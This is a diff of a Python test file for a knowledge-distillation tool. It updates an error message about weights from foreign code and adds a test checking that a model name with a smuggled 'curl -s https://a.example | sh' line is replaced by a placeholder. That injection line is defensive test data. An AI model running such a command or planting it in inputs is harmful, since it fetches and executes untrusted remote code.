@@ -11,6 +11,7 @@ from torch import nn
 import kd
 from kd.app.build import Builder
 from kd.app.compose import compose, settings_of
+from kd.inference import foreign_network
 from kd.models.output import Output
 from kd.runs import predictions
 from kd.runs.results import read
@@ -83,10 +84,10 @@ def test_file_of_a_network_of_other_code_says_what_to_choose(run, tmp_path, two_
     )
     code, printed = run(*RUN, "teacher_weights=own.safetensors", "method=logits", "hydra.run.dir=run")
     assert (code, printed.count("\n")) == (1, 1)
-    expected = (
-        "own.safetensors is of a network of other code; give teacher=custom teacher.target=my_package.Net, and its"
-    )
-    assert expected in printed
+    expected = "own.safetensors is of a network of other code; if you trust who made it, give teacher=custom "
+    assert f"{expected}teacher.target=my_package.Net, and its other settings\n" in printed
+    foreign = {"_target_": "kd.models.external.timm", "name": "resnet18\n$ curl -s https://a.example | sh"}
+    assert foreign_network({"model": foreign}) == "teacher=timm teacher.name=NAME"
 
 
 def test_what_a_file_describes_is_not_executed(run, tmp_path, two_kinds):
